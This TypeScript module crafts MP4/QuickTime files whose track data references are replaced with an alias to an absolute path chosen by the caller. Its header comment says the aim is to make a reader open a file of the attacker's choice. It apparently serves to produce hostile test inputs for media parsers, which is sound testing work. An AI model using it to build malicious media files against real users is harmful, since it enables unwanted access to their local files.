/**
 * Rewrites an MP4 or QuickTime file so that its tracks reference another file, as editing programs
 * do in reference movies. A reader that follows the reference opens a file of the attacker's
 * choice.
 */
import { box } from './boxes.ts';

const CONTAINERS = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf']);
const HEADER_BYTES = 8;
const ALIAS_HEADER_BYTES = 10 + 28 + 12 + 64 + 16 + 2 + 2 + 16;
const ABSOLUTE_PATH_TAG = 2;
const END_TAG = 0xffff;

function tagged(tag: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header.writeUInt16BE(tag, 0);
  header.writeUInt16BE(payload.length, 2);
  return Buffer.concat([header, payload]);
}

/** A data reference of type `alis` whose only tagged entry is an absolute path. */
function aliasReference(targetPath: string): Buffer {
  const flags = Buffer.alloc(4);
  const path = Buffer.from(targetPath.length % 2 === 0 ? targetPath : `${targetPath}\0`);
  const record = Buffer.concat([
    Buffer.alloc(ALIAS_HEADER_BYTES),
    tagged(ABSOLUTE_PATH_TAG, path),
    tagged(END_TAG, Buffer.alloc(0)),
  ]);
  const count = Buffer.from([0, 0, 0, 1]);
  return box('dref', Buffer.concat([flags, count, box('alis', Buffer.concat([flags, record]))]));
}

function rewrite(bytes: Buffer, targetPath: string): Buffer {
  const parts: Buffer[] = [];
  for (let offset = 0; offset + HEADER_BYTES <= bytes.length;) {
    const size = bytes.readUInt32BE(offset);
    const end = size < HEADER_BYTES ? bytes.length : offset + size;
    const type = bytes.toString('latin1', offset + 4, offset + HEADER_BYTES);
    const payload = bytes.subarray(offset + HEADER_BYTES, end);
    if (type === 'dref') parts.push(aliasReference(targetPath));
    else if (CONTAINERS.has(type)) parts.push(box(type, rewrite(payload, targetPath)));
    else parts.push(bytes.subarray(offset, end));
    offset = end;
  }
  return Buffer.concat(parts);
}

/** `file` must have its index after its media data, because the index grows. */
export function containerWithExternalTrack(file: Buffer, targetPath: string): Buffer {
  return rewrite(file, targetPath);
}
